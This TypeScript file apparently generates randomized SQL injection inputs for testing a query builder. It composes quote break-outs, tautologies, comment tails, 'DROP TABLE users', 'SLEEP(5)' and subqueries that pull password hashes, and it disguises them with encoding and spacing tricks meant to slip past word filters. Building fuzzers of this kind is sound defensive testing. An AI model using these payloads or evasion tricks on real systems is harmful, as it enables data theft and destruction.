import { aliasOf, type QueryTemplate, type Slot } from './queryTemplate';
import type { Random } from './random';
import { conditionOf } from './attackCondition';
import { foreignPieceOf } from './foreignPiece';

/** A value that is meant to change the query it is put in, composed piece by piece. */
export function attackValue(random: Random, template: QueryTemplate): string {
  const { slot } = template;
  const alias = random.chance(0.9) ? aliasOf(template) : random.pick(['c', 'u', 'users', 'root', 'x']);
  const value = slotted(random, slot, alias, template);
  return disguised(random, value);
}

function slotted(random: Random, slot: Slot, alias: string, template: QueryTemplate): string {
  switch (slot) {
    case 'name':
      return nameAttack(random, alias);
    case 'direction':
      return directionAttack(random, alias);
    case 'paging':
      return pagingAttack(random, alias);
    default:
      return conditionAttack(random, slot, alias, template);
  }
}

/** seed, break-out, middle, tail: `zz` `')` ` OR 1=1` ` --`. */
function conditionAttack(random: Random, slot: Slot, alias: string, template: QueryTemplate): string {
  const quote = quoteOf(random, slot);
  const open = openBrackets(template.before);
  const close = ')'.repeat(random.chance(0.75) ? open : random.below(3));
  const seed = slot === 'number' ? random.pick(['0', '-1', '1', '99', '']) : random.pick(seeds);
  const middle = random.chance(0.62)
    ? joined(random, alias, quote || random.pick(["'", '"']))
    : foreignPieceOf(random, alias);
  return seed + quote + close + middle + tailOf(random, quote, open);
}

const seeds = ['', '', 'zz', 'admin', '1', 'nobody', 'x@example.com', '-1', 'a b', '%'];

function quoteOf(random: Random, slot: Slot): string {
  if (slot === 'number') return random.chance(0.05) ? "'" : '';
  const own = slot === 'single' ? "'" : '"';
  if (random.chance(0.85)) return own;
  return random.pick([own + own, `\\${own}`, own === "'" ? '"' : "'", '', `${own}${own}${own}`]);
}

function openBrackets(before: string): number {
  return before.split('(').length - before.split(')').length;
}

function joined(random: Random, alias: string, quote: string): string {
  const condition = conditionOf(random, alias, quote);
  const connective = random.pick(connectives);
  const middle = connective.replace('¤', condition);
  return random.chance(0.15)
    ? middle + random.pick(connectives).replace('¤', conditionOf(random, alias, quote))
    : middle;
}

const connectives = [
  ' OR ¤',
  ' OR ¤',
  ' OR ¤',
  ' OR ¤',
  ' or ¤',
  ' AND ¤',
  ' AND ¤',
  ' and ¤',
  ' AND NOT ¤',
  ' OR NOT ¤',
  ' OR (¤)',
  ' OR ((¤))',
  '\nOR\n¤',
  '\tor\t¤',
  ' OR ¤ OR false',
  ' AND (¤ OR false)',
  ' || ¤',
  ' && ¤',
  ' XOR ¤',
  '/**/OR/**/¤',
  ' ?? ¤',
];

function tailOf(random: Random, quote: string, open: number): string {
  if (random.chance(0.45)) return random.pick([' --', '--', ' -- -', ' --x', ' -- ok', '-- ']);
  if (random.chance(0.2)) return random.pick(['#', ' #', '/*', ' /*', ';', ';--', ';%00', '\0', '`']);
  const reopened = '('.repeat(random.chance(0.7) ? open : 0);
  if (quote === '') return random.pick(['', '', ' OR 1=2', ' AND 1=1', ` OR (0`]);
  return random.pick([
    ` OR ${reopened}${quote}1${quote}=${quote}2`,
    ` AND ${reopened}${quote}a${quote}=${quote}a`,
    ` OR ${reopened}${quote}`,
    ` AND ${reopened}${quote}x${quote}!=${quote}y`,
    ` OR ${reopened}${quote}b${quote} > ${quote}a`,
    '',
  ]);
}

function nameAttack(random: Random, alias: string): string {
  return random.pick([
    `name, ${alias}.passwordHash`,
    `id, ${alias}`,
    `name, (SELECT VALUE ${alias})`,
    `name, udf.dump(${alias})`,
    `id, ${alias} FROM ${alias} --`,
    `name = 'x' OR 1=1 --`,
    `name OR true --`,
    `id > '' OR ${alias}.x`,
    `name FROM users --`,
    `name, * FROM ${alias} --`,
    `name, (SELECT password FROM users)`,
    `name; DROP TABLE users --`,
    `name${foreignPieceOf(random, alias)} --`,
    `id, ${conditionOf(random, alias, "'")}`,
  ]);
}

function directionAttack(random: Random, alias: string): string {
  return random.pick([
    'DESC OFFSET 0 LIMIT 100000 --',
    `DESC, ${alias}.passwordHash`,
    'ASC; DROP TABLE users',
    'DESC, (SELECT 1)',
    'DESC --',
    `ASC${foreignPieceOf(random, alias)}`,
    `, ${conditionOf(random, alias, "'")}`,
    'DESC, SLEEP(5)',
  ]);
}

function pagingAttack(random: Random, alias: string): string {
  return random.pick([
    `10 ${alias}.passwordHash, ${alias}.id FROM ${alias} --`,
    '0 LIMIT 100000 --',
    '10; DROP TABLE users',
    `1${foreignPieceOf(random, alias)}`,
    `1 OR ${conditionOf(random, alias, "'")}`,
    '(SELECT 1)',
    '10 --',
  ]);
}

/** Another spelling of the same, for filters that look for words. */
function disguised(random: Random, value: string): string {
  if (random.chance(0.8)) return value;
  return random.pick(disguises)(value, random);
}

const disguises: readonly ((value: string, random: Random) => string)[] = [
  (value, random) =>
    value.replace(/[a-z]/gi, (letter) => (random.chance(0.5) ? letter.toUpperCase() : letter)),
  (value) => value.toLowerCase(),
  (value) => value.replaceAll(' ', '/**/'),
  (value) => value.replaceAll(' ', '\t'),
  (value) => value.replaceAll(' ', '\n'),
  (value) => value.replaceAll(' ', '  '),
  (value) => encodeURIComponent(value).replaceAll("'", '%27'),
  (value) => value.replaceAll(' ', '+'),
  (value) => value.replaceAll("'", '\\u0027').replaceAll('"', '\\u0022'),
  (value) => value.replaceAll("'", '&#39;').replaceAll('"', '&quot;'),
  (value) => value.replaceAll("'", '’').replaceAll('"', '”'),
  (value) => value.replaceAll(' ', '\u00a0'),
];
